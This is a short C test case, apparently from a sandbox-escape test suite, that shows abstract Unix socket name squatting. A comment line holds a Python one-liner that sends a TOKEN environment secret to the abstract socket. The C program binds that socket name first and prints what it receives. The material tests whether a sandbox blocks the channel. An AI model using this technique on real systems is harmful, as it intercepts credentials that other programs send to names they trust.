// tries: to bind an abstract name that a program outside will trust, and take what it sends
// works: the first who binds a name has it
// see: unix(7); squatting of D-Bus and X11 names
// goal: read
// first: python3 -S -c 'import os, socket, time; to = "\0escapes-squat-" + os.environ["WORKER"]; tries = (s for s in iter(lambda: socket.socket(socket.AF_UNIX), None) if not s.connect_ex(to) or time.sleep(0.05)); next(tries).send(os.environ["TOKEN"].encode())' 2>&- &
#include "../kit.h"

int main(void)
{
	struct sockaddr_un here;
	socklen_t length = local(&here, join("@escapes-squat-", env("WORKER")));
	int s = MUST(socket(AF_UNIX, SOCK_STREAM, 0));
	struct pollfd until = { s, POLLIN };

	MUST(bind(s, (void *)&here, length));
	MUST(listen(s, 1));
	MUST(poll(&until, 1, 30000) - 1);
	return print_from(MUST(accept(s, NULL, NULL)));
}
